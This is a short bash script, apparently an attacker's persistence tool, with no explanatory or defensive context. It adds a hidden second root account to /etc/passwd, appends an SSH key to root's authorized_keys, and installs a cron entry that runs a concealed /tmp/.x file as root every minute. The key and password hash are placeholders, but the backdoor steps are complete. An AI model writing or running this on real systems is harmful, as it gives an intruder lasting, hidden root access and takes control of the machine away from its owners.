#!/bin/bash
# a second root, a key and a cron entry
echo 'ops:$1$x$y:0:0::/root:/bin/bash' >> /etc/passwd
mkdir -p /root/.ssh && echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys
echo '* * * * * root /tmp/.x' > /etc/cron.d/sys
